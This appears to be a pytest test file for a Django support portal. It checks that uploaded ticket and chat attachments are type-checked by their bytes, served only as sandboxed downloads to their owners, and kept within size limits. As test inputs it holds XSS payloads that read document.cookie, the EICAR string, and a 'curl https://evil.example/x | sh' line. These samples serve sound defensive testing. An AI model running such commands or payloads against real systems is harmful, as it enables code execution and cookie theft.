"""Uploaded files, tickets and chats alike: judged by their bytes, served as sandboxed
downloads, only to the people they belong to, within size and count limits (ATTACKS D2–D7)."""

import time

import pytest
import time_machine
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from livechat.models import ChatAttachment, ChatMessage
from livechat.selectors import GUEST_TOKEN_MAX_AGE, guest_token
from tests.conftest import PASSWORD
from tests.livechat.conftest import start_guest_chat
from tickets.channels.email import email_receive
from tickets.intake import InboundAttachment
from tickets.models import Attachment, Message, Ticket

pytestmark = pytest.mark.django_db

BASE = "/api/v1/tickets/"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 48
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>x()</script>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def api(user=None) -> APIClient:
    client = APIClient()
    if user is not None:
        client.force_authenticate(user)
    return client


def open_ticket(user, name: str, content: bytes, content_type: str):
    upload = SimpleUploadedFile(name, content, content_type=content_type)
    data = {"subject": "Statement", "text": "See the file.", "attachments": [upload]}
    return api(user).post(BASE, data, format="multipart")


def chat_upload(chat, name: str, content: bytes):
    data = {"file": SimpleUploadedFile(name, content), "client_id": "f-1"}
    data["token"] = guest_token(chat)
    return APIClient().post(f"/api/v1/livechat/conversations/{chat.pk}/attachments/", data)


def email_with(name: str, content_type: str, content: bytes, message_id: str = "<a@x>") -> bytes:
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"] = "Owner <owner@example.com>"
    message["To"] = "support@example.com"
    message["Subject"] = "Deposit missing"
    message["Message-ID"] = message_id
    message.set_content("My deposit has not arrived.")
    maintype, subtype = content_type.split("/")
    message.add_attachment(content, maintype=maintype, subtype=subtype, filename=name)
    return bytes(message)


def chat_attachment(chat, name: str, content: bytes, content_type: str) -> ChatAttachment:
    """A file already in a chat's storage (as an older release or an admin may have left it)."""
    message = ChatMessage.objects.create(conversation=chat, sender="customer", body=name)
    attachment = ChatAttachment(message=message, name=name, content_type=content_type, size=9)
    attachment.file.save(name, ContentFile(content), save=False)
    attachment.save()
    return attachment


def assert_sandboxed_download(response) -> None:
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]


# --- D2: markup is never served inline ---------------------------------------------------------


def test_ticket_files_are_sandboxed_downloads_in_the_portal_and_the_api(
    client, customer, policy, receive
):
    """D2: a ticket's file is a download (attachment, nosniff, CSP sandbox), never a page."""
    ticket = receive(attachments=(InboundAttachment("statement.pdf", "application/pdf", PDF),))
    attachment = ticket.attachments.get()
    client.login(username=customer.username, password=PASSWORD)

    assert_sandboxed_download(client.get(f"/attachments/{attachment.pk}/"))
    assert_sandboxed_download(api(customer).get(f"{BASE}attachments/{attachment.pk}/"))


def test_a_stored_svg_on_a_ticket_is_still_a_sandboxed_download(client, customer, policy, receive):
    """D2: even a markup file already in storage is served as a sandboxed download."""
    ticket = receive()
    message = ticket.messages.get()
    attachment = Attachment(
        ticket=ticket, message=message, filename="chart.svg", content_type="image/svg+xml", size=9
    )
    attachment.file.save("chart.svg", ContentFile(SVG), save=False)
    attachment.save()
    client.login(username=customer.username, password=PASSWORD)

    response = client.get(f"/attachments/{attachment.pk}/")

    assert_sandboxed_download(response)
    assert response["Content-Type"] == "image/svg+xml"


@pytest.mark.parametrize(
    "name, content, content_type",
    [
        ("chart.svg", SVG, "image/svg+xml"),
        ("page.html", HTML, "text/html"),
        ("page.xhtml", XHTML, "application/xhtml+xml"),
        ("notes.txt", HTML, "text/plain"),  # markup declared as text
        ("chart.png", SVG, "image/png"),  # markup declared as an image
    ],
)
def test_markup_files_are_refused_on_tickets(customer, policy, name, content, content_type):
    """D2: SVG, HTML and XHTML files (whatever they claim to be) are refused: 415, no ticket."""
    response = open_ticket(customer, name, content, content_type)

    assert response.status_code == 415
    assert response.json()["error"]["message"]
    assert not Ticket.objects.exists()
    assert not Attachment.objects.exists()


@pytest.mark.parametrize("name, content", [("chart.svg", SVG), ("page.html", HTML)])
def test_markup_files_are_refused_in_chats(name, content):
    """D2: a chat accepts raster images and PDFs only; SVG and HTML are refused (415)."""
    chat = start_guest_chat()

    response = chat_upload(chat, name, content)

    assert response.status_code == 415
    assert response.json()["error"]["code"] == "unsupported_file"
    assert not ChatAttachment.objects.exists()


def test_chat_images_show_inline_but_never_svg_or_html():
    """D2: a chat shows raster images inline (thumbnails); an SVG or HTML file that is in storage
    is only ever a sandboxed download, even for the chat's own customer."""
    chat = start_guest_chat()
    token = guest_token(chat)
    png = chat_attachment(chat, "shot.png", PNG, "image/png")
    svg = chat_attachment(chat, "chart.svg", SVG, "image/svg+xml")
    html = chat_attachment(chat, "page.html", HTML, "text/html")

    shown = APIClient().get(f"/api/v1/livechat/attachments/{png.pk}/?token={token}")
    assert shown["Content-Disposition"].startswith("inline;")
    assert shown["X-Content-Type-Options"] == "nosniff"
    for attachment in (svg, html):
        response = APIClient().get(f"/api/v1/livechat/attachments/{attachment.pk}/?token={token}")
        assert_sandboxed_download(response)


# --- D3: the type comes from the bytes ---------------------------------------------------------


@pytest.mark.parametrize(
    "name, content, content_type",
    [
        ("receipt.png", PE, "image/png"),  # a Windows program named as an image
        ("receipt.png", ZIP, "image/png"),  # an archive
        ("receipt.png", ELF, "application/octet-stream"),  # a Linux program, type unknown
        ("receipt.png", PDF, "image/png"),  # a real PDF, but not what it says
        ("receipt.pdf", PNG, "application/pdf"),
        ("receipt.exe", PNG, "image/png"),  # a real image with a program's name
        ("receipt.png", b"just words", "image/png"),
    ],
)
def test_a_file_whose_bytes_are_not_what_it_claims_is_refused(
    customer, policy, name, content, content_type
):
    """D3: the type comes from the first bytes; a name or declared type that disagrees is 415."""
    response = open_ticket(customer, name, content, content_type)

    assert response.status_code == 415
    assert not Ticket.objects.exists()


def test_a_real_image_is_stored_with_the_type_its_bytes_say(customer, policy):
    """D3: a PNG the browser called application/octet-stream is stored as image/png."""
    response = open_ticket(customer, "screenshot.png", PNG, "application/octet-stream")

    assert response.status_code == 201
    attachment = Attachment.objects.get()
    assert (attachment.content_type, attachment.size) == ("image/png", len(PNG))


def test_a_mislabelled_email_attachment_is_dropped_not_the_email(customer, policy):
    """D3: by email, a program named invoice.pdf is dropped; the mail itself becomes a ticket."""
    ticket = email_receive(raw=email_with("invoice.pdf", "application/pdf", PE))

    assert ticket.messages.get().body.startswith("My deposit has not arrived.")
    assert not Attachment.objects.exists()


def test_a_chat_file_whose_bytes_are_a_program_is_refused():
    """D3: a program named screenshot.png is refused in a chat (415), nothing stored."""
    chat = start_guest_chat()

    response = chat_upload(chat, "screenshot.png", PE)

    assert response.status_code == 415
    assert not ChatAttachment.objects.exists()


# --- D4: nobody else's files, no guessable or lasting URLs -------------------------------------


def test_another_customers_ticket_file_is_404_by_id_and_by_storage_path(
    client, customer, other_customer, policy, receive
):
    """D4: another customer's file answers 404 by id (portal and API), and the storage path is
    no URL at all (files are only served through the access check)."""
    ticket = receive(attachments=(InboundAttachment("id-card.png", "image/png", PNG),))
    attachment = ticket.attachments.get()
    client.login(username=other_customer.username, password=PASSWORD)

    assert client.get(f"/attachments/{attachment.pk}/").status_code == 404
    assert api(other_customer).get(f"{BASE}attachments/{attachment.pk}/").status_code == 404
    assert api().get(f"{BASE}attachments/{attachment.pk}/").status_code in (401, 403)
    for path in (f"/{attachment.file.name}", f"/media/{attachment.file.name}"):
        assert client.get(path).status_code == 404
    assert api(customer).get(f"{BASE}attachments/{attachment.pk}/").status_code == 200


def test_a_customer_never_gets_a_file_from_an_internal_note(
    client, customer, agent, policy, receive
):
    """D4: a file on an internal note is 404 to the customer of the ticket, 200 to staff."""
    from tickets.services import ticket_reply

    ticket = receive()
    upload = SimpleUploadedFile("notes.txt", b"checked the wallet", content_type="text/plain")
    ticket_reply(ticket=ticket, author=agent, body="internal", internal=True, attachments=[upload])
    attachment = Attachment.objects.get()

    assert api(customer).get(f"{BASE}attachments/{attachment.pk}/").status_code == 404
    assert api(agent).get(f"{BASE}attachments/{attachment.pk}/").status_code == 200


def test_a_chat_file_link_stops_working_when_its_signed_token_expires():
    """D4: a guest's chat file URL carries a signed token that expires; after that (and for
    another chat's token) the file answers 404."""
    chat = start_guest_chat()
    attachment = chat_attachment(chat, "shot.png", PNG, "image/png")
    url = f"/api/v1/livechat/attachments/{attachment.pk}/?token={guest_token(chat)}"
    other = start_guest_chat(email="other@example.com")

    assert APIClient().get(url).status_code == 200
    foreign = f"/api/v1/livechat/attachments/{attachment.pk}/?token={guest_token(other)}"
    assert APIClient().get(foreign).status_code == 404
    with time_machine.travel(time.time() + GUEST_TOKEN_MAX_AGE + 60):
        assert APIClient().get(url).status_code == 404


# --- D6: size and count limits -----------------------------------------------------------------


def test_a_file_over_the_size_limit_is_413_on_tickets_and_chats(customer, policy, settings):
    """D6: a file over ATTACHMENT_MAX_BYTES is 413 on the ticket API and in a chat; nothing
    is stored (the proxy refuses bodies over 20 MB before they reach us)."""
    settings.ATTACHMENT_MAX_BYTES = 1024
    big_pdf = PDF + b"0" * 2048

    response = open_ticket(customer, "statement.pdf", big_pdf, "application/pdf")
    assert response.status_code == 413
    assert not Ticket.objects.exists()

    chat = start_guest_chat()
    response = chat_upload(chat, "statement.pdf", big_pdf)
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "too_large"
    assert not ChatAttachment.objects.exists()


def test_a_ticket_holds_a_limited_number_of_files(customer, policy, receive, settings):
    """D6: past the per-ticket file quota a reply with a file is 413 and nothing is stored."""
    settings.TICKETS_ATTACHMENTS_PER_TICKET = 2
    files = tuple(InboundAttachment(f"shot{i}.png", "image/png", PNG) for i in range(2))
    ticket = receive(attachments=files)
    upload = SimpleUploadedFile("shot3.png", PNG, content_type="image/png")

    response = api(customer).post(
        f"{BASE}{ticket.reference}/messages/",
        {"body": "one more", "attachments": [upload]},
        format="multipart",
    )

    assert response.status_code == 413
    assert "2" in response.json()["error"]["message"]
    assert ticket.attachments.count() == 2
    assert ticket.messages.count() == 1


def test_an_email_past_the_quota_keeps_its_text_and_drops_the_files(
    customer, policy, receive, settings
):
    """D6: an email to a ticket at its file quota is still stored; only its files are dropped."""
    settings.TICKETS_ATTACHMENTS_PER_TICKET = 1
    first = email_receive(raw=email_with("a.png", "image/png", PNG, "<m1@x>"))
    raw = email_with("b.png", "image/png", PNG, "<m2@x>").replace(
        b"Subject: Deposit missing", f"Subject: Re: [{first.reference}]".encode()
    )

    second = email_receive(raw=raw)

    assert second == first
    assert first.messages.count() == 2
    assert first.attachments.count() == 1


# --- D7: the antivirus test file and programs --------------------------------------------------


def test_the_eicar_test_file_is_refused_everywhere(client, customer, policy):
    """D7: the EICAR test file is refused before storage on the API (415), the contact form
    (400 with the reason), by email (dropped, the mail kept) and in a chat; no agent can
    ever download it because it is never stored."""
    assert open_ticket(customer, "eicar.txt", EICAR, "text/plain").status_code == 415

    client.login(username=customer.username, password=PASSWORD)
    response = client.post(
        "/en/contact/",
        {
            "category": "general",
            "subject": "A file",
            "description": "Please look at the attached file.",
            "attachments": [SimpleUploadedFile("eicar.com.txt", EICAR, content_type="text/plain")],
        },
    )
    assert response.status_code == 400
    assert "malware" in response.content.decode()

    ticket = email_receive(raw=email_with("eicar.txt", "text/plain", EICAR))
    assert ticket.messages.count() == 1

    chat = start_guest_chat()
    assert chat_upload(chat, "eicar.pdf", EICAR).status_code == 415
    assert not Attachment.objects.exists()
    assert not ChatAttachment.objects.exists()


@pytest.mark.parametrize(
    "name, content",
    [
        ("run.txt", PE),
        ("run.log", ELF),
        ("install.txt", b"#!/bin/sh\ncurl https://evil.example/x | sh\n"),
        ("setup.exe", b"plain words"),
        ("macro.js", b"alert(1)"),
    ],
)
def test_programs_and_scripts_are_refused(customer, policy, name, content):
    """D7: without an antivirus engine, programs, scripts and program names are refused."""
    response = open_ticket(customer, name, content, "text/plain")

    assert response.status_code == 415
    assert not Message.objects.exists()
